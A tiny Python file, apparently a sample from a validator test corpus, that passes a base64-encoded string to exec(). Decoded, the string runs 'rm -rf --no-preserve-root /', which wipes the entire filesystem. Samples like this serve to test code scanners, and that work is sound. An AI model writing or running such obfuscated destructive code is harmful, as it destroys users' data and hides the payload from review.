# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
import base64

exec(base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgncm0gLXJmIC0tbm8tcHJlc2VydmUtcm9vdCAvJykK"))
